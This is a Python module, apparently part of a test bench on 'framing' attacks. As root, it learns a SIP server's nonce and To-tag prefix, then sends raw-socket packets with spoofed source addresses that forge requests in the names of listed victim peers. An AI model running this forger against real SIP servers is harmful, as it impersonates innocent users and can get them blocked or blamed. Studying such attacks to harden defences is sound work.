"""The forger (root): requests in the names of others, from raw sockets.

``python -m bench.framing.forge ADDRESS SERVER PEERS RATE COUNT ORDER``: COUNT requests in the
names of the addresses and users in the file PEERS (``address user`` a line), RATE a second;
ORDER ``spread`` names one after the other, ``one-by-one`` each for as long as its share lasts,
``one`` the first alone.
Before that it learns, as ADDRESS, what it needs of the server's answers.
"""

from __future__ import annotations

import re
import socket
import sys
import time
from pathlib import Path

from bench.framing.requests import KINDS, Known, Victim, ask_for_oneself
from demo.spoof import packet


def learn(address: str, server: str) -> Known:
    """A nonce of the server's, and how its To tags begin."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.bind((address, 5099))
        sock.settimeout(5)
        answers = []
        for method, to in (("REGISTER", "1000"), ("INVITE", "nobody")):
            sock.sendto(ask_for_oneself(address, 5099, method, to), (server, 5060))
            answers.append(sock.recv(4096).decode())
    nonce, tag = re.search(r'nonce="([^"]+)"', answers[0]), re.search(r";tag=(\S+)", answers[1])
    if nonce is None or tag is None:
        sys.exit(f"the server does not answer as expected: {answers}")
    return Known(nonce[1], tag[1][:-4])


def main(address: str, server: str, peers: Path, rate: int, count: int, order: str) -> None:
    """Send them all, in groups of a hundredth of a second."""
    victims = [Victim(*line.split()) for line in peers.read_text().splitlines()]
    if order == "one":
        victims = victims[:1]
    packed = [socket.inet_aton(victim.address) for victim in victims]
    known, to = learn(address, server), socket.inet_aton(server)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    share = -(-count // len(victims))
    began, sent = time.monotonic(), 0
    while sent < count:
        turn = sent % len(victims) if order == "spread" else sent // share
        kind = KINDS[sent // len(victims) % len(KINDS) if order == "spread" else sent % len(KINDS)]
        for payload in kind(victims[turn], sent, known):
            sock.sendto(packet(packed[turn], to, payload), (server, 0))
        sent += 1
        ahead = began + sent / rate - time.monotonic()
        if ahead > 0.01:
            time.sleep(ahead)
    print(f"sent {sent} in {time.monotonic() - began:.1f} s, as {len(victims)} peers, {order}")


if __name__ == "__main__":
    _, address, server, peers, rate, count, order = sys.argv
    main(address, server, Path(peers), int(rate), int(count), order)
